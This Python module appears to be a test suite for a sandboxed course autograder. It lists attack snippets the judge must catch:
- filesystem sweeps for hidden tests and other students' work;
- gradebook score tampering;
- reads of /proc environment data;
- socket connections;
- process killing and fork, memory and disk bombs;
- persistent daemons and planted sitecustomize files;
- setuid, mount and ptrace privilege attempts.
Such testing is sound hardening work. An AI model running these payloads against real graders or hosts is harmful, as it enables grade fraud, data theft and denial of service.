"""Attacks on the machine: reading what is there, reaching others, using everything up, staying on.

HOST is filled in by the test: {port} a port that listens on this machine, {token} a word of this run.
"""

from .attack import STRICT, WRONG, Attack

_LOOK = """import os
found = []
for top in ("/", "/work", "/home", "/root", "/tmp", "/srv", os.getcwd(), os.path.expanduser("~")):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "lib64", "site", "nix")]
        if folder == "/sandbox/packages/backprop_lab":
            folders.remove("assignments")  # what students are given
        for name in files:
            if name.endswith((".ipynb", ".db")) or name in ("nbgrader_config.py", "judge.py", "course.py") \\
                    or "hidden" in folder or "submitted" in folder:
                found.append(os.path.join(folder, name))
print("FOUND", found)
"""

ATTACKS = [
    Attack(
        "read-the-course",
        "find notebooks, hidden cases, the gradebook and other submissions",
        _LOOK + WRONG,
        flag="imports os",
        levels=STRICT,
    ),
    Attack(
        "read-by-name",
        "open the course's files by the names they have on this machine",
        """found = []
for path in {paths}:
    try:
        found.append(open(path, "rb").read(20))
    except OSError:
        pass
print("FOUND", found)"""
        + WRONG,
        flag="opens files",
        levels=STRICT,
    ),
    Attack(
        "write-the-gradebook",
        "give itself full marks in gradebook.db",
        """import sqlite3, glob
for path in {paths} + glob.glob("/**/gradebook.db", recursive=True):
    try:
        base = sqlite3.connect(path)
        base.execute("UPDATE grade SET auto_score = 100")
        base.commit()
        print("WRITTEN")
    except Exception:
        pass"""
        + WRONG,
        flag="imports sqlite3",
        levels=STRICT,
        slow=True,
    ),
    Attack(
        "environment",
        "read the grader's environment and command line",
        """import os, glob
told = [str(dict(os.environ))]
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        told.append(open(path, "rb").read().decode("utf-8", "replace"))
    except OSError:
        pass
print("FOUND", [t for t in told if "{token}" in t or "gradebook" in t or "/work/main" in t])"""
        + WRONG,
        flag="/proc",
        levels=STRICT,
    ),
    Attack(
        "network",
        "connect to this machine and to the world",
        """import socket
for address in (("127.0.0.1", {port}), ("localhost", {port}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=0.2).send(b"{token}")
        print("CONNECTED")
    except OSError as error:
        print(error)"""
        + WRONG,
        flag="socket",
        levels=STRICT,
        reaches=True,
    ),
    Attack(
        "exit-in-the-cell",
        "end the process before anything is asked",
        "import os\nos._exit(0)" + WRONG,
        flag="imports os",
        reason="did not finish",
    ),
    Attack(
        "exit-in-the-call",
        "end the process when asked",
        "import os\ndef exp_backward(delta, x):\n    os._exit(0)",
        flag="imports os",
        reason="ended the interpreter",
    ),
    Attack(
        "segmentation-fault",
        "crash the interpreter",
        "import ctypes\ndef exp_backward(delta, x):\n    ctypes.string_at(0)",
        flag="ctypes",
        reason="SIG",
    ),
    Attack(
        "signals",
        "kill parent, process group, process 1 and everybody",
        """import os, signal
def exp_backward(delta, x):
    for pid in (os.getppid(), 1, 0, -1, *range(2, 300)):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    return delta""",
        flag="signal",
        levels=STRICT,
        reaches=True,
    ),
    Attack(
        "fork-bomb",
        "start processes without end",
        """import os
def exp_backward(delta, x):
    while True:
        try:
            os.fork()
        except OSError:
            pass""",
        flag="imports os",
        levels=STRICT,
        reaches=True,
    ),
    Attack(
        "thread-bomb",
        "start threads without end",
        """import threading, time
def exp_backward(delta, x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            return delta""",
        flag="imports threading",
        levels=STRICT,
        reaches=True,
        slow=True,
    ),
    Attack(
        "memory-flood",
        "take all memory",
        """def exp_backward(delta, x):
    kept = []
    while True:
        kept.append(np.ones(60_000_000))""",
        reason="MemoryError|bytes of memory|took more than",
        reaches=True,
    ),
    Attack(
        "memory-of-many",
        "take all memory with many processes that each stay below the limit",
        """import os, time
def exp_backward(delta, x):
    for _ in range(20):
        if os.fork() == 0:
            kept = np.ones(25_000_000)
            time.sleep(60)
            os._exit(0)
    time.sleep(60)""",
        flag="imports os",
        levels=STRICT,
        reason="bytes of memory|took more than",
        slow=True,
        reaches=True,
    ),
    Attack(
        "disk-flood",
        "fill the disk",
        """written = 0
for folder in ("/tmp", "/work", "/dev/shm", "."):
    try:
        for k in range(40):
            with open(f"{folder}/flood-{k}", "wb") as file:
                for _ in range(40):
                    written += file.write(b"x" * 1_000_000)
    except OSError as error:
        print(error)
print("WRITTEN", written)"""
        + WRONG,
        flag="opens files",
        levels=STRICT,
        reaches=True,
    ),
    Attack(
        "output-flood",
        "print sixty megabytes",
        """import sys, os
for _ in range(60):
    print("x" * 1_000_000)
    sys.stderr.write("y" * 1_000_000)
os.write(1, b"z" * 30_000_000)

def exp_backward(delta, x):
    print("x" * 10_000_000)
    return delta""",
        flag="imports os",
    ),
    Attack(
        "stubborn-loop",
        "loop for ever, deaf to every signal that can be ignored",
        """import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
def exp_backward(delta, x):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue""",
        flag="imports signal",
        reason="took more than",
    ),
    Attack(
        "loop-in-the-cell",
        "loop for ever before anything is asked",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        reason="did not finish",
    ),
    Attack(
        "loop-in-str",
        "loop for ever while its error is described",
        """class Slow(Exception):
    def __str__(self):
        while True: pass
def exp_backward(delta, x):
    raise Slow""",
        reason="took more than",
        slow=True,
    ),
    Attack(
        "outliving-process",
        "leave a daemon behind that goes on after the run",
        """import subprocess, sys, os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)  # {token}"])
    os._exit(0)
subprocess.Popen(["sh", "-c", "nohup setsid sleep 301 >/dev/null 2>&1 & # {token}"])"""
        + WRONG,
        flag="subprocess",
        reaches=True,
    ),
    Attack(
        "outliving-thread",
        "leave a thread behind that goes on answering",
        """import threading, time
def later():
    while True:
        time.sleep(0.01)
        globals()["exp_backward"] = lambda delta, x: delta
threading.Thread(target=later, daemon=False).start()"""
        + WRONG,
        flag="threading",
    ),
    Attack(
        "at-exit",
        "do something once the judge is done",
        """import atexit, time
atexit.register(time.sleep, 300)
class Late:
    def __del__(self):
        time.sleep(300)
late = Late()"""
        + WRONG,
        flag="atexit",
    ),
    Attack(
        "left-files",
        "leave files for the next submission to find or to run",
        """import os
for path in ("/tmp/{token}", "/work/{token}", "/dev/shm/{token}", "/sandbox/packages/backprop_lab/{token}.py",
             "/usr/lib/{token}", "/etc/{token}", "/sandbox/judge/inside.py",
             "/tmp/sitecustomize.py", "/work/sitecustomize.py", "/work/numpy.py"):
    try:
        with open(path, "w") as file:
            file.write("raise SystemExit('{token}')")
    except OSError as error:
        print(error.strerror)"""
        + WRONG,
        flag="opens files",
        levels=STRICT,
        reaches=True,
    ),
    Attack(
        "more-rights",
        "become another user, trace, mount, and make namespaces",
        """import ctypes, os
libc = ctypes.CDLL(None)
said = []
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/disk", 0o60600, 0x800)):
    try:
        call()
        said.append("GAINED")
    except OSError as error:
        said.append(str(error))
for flag in (0x10000000, 0x20000000, 0x40000000):
    if libc.unshare(flag) == 0 and libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0:
        said.append("GAINED")
said += ["GAINED"] if libc.ptrace(16, 1, 0, 0) == 0 else []
print(said)"""
        + WRONG,
        flag="ctypes",
        levels=STRICT,
    ),
    Attack(
        "slow-by-design",
        "take nearly as long as is allowed, at every call",
        "import time\ndef exp_backward(delta, x):\n    time.sleep(0.4)\n    return delta",
        slow=True,
    ),
]
